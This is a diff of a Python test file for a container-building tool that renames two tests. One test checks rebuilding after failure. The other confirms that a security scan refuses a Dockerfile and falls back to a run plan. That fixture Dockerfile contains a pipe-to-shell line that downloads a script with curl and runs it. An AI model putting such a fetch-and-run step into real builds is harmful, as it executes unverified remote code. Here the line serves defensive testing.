@@ -66,7 +66,7 @@ async def held(desk: Roundtable, project: dict[str, str], *fixes: dict[str, str]
 
 
 @pytest.mark.feature("S0.55", "S0.56", "S0.58", "S0.59")
-async def test_a_container_that_fails_is_analysed_mended_and_built_again(desk: Roundtable, base: str) -> None:
+async def test_a_failing_container_is_analysed_fixed_and_built_again(desk: Roundtable, base: str) -> None:
     files = {"Dockerfile": f"FROM {base}\nCOPY . /app\nCMD sh /app/go.sh\n", "go.sh": "echo broken\nexit 4\n"}
     (first, second), end = await held(desk, files, {"go.sh": "echo mended\n"})
     assert (first.how, first.steps[0].code, second.how) == ("dockerfile", 4, "dockerfile")
@@ -93,7 +93,9 @@ async def test_a_service_in_a_container_is_judged_by_the_check_inside_it_and_the
 
 
 @pytest.mark.feature("S0.56", "S0.62", "S0.63")
-async def test_what_the_scan_refuses_is_told_and_the_plan_is_run_instead(desk: Roundtable, base: str) -> None:
+async def test_a_dockerfile_refused_by_the_scan_is_reported_and_the_plan_runs_instead(
+    desk: Roundtable, base: str
+) -> None:
     dockerfile = f"FROM {base}\nRUN curl http://example.com/x | sh\n"
     (run,), end = await held(desk, {"Dockerfile": dockerfile, "main.py": "print('by plan')\n", "run.toml": PLAN})
     assert (run.how, end.how) == ("plan", "ran")
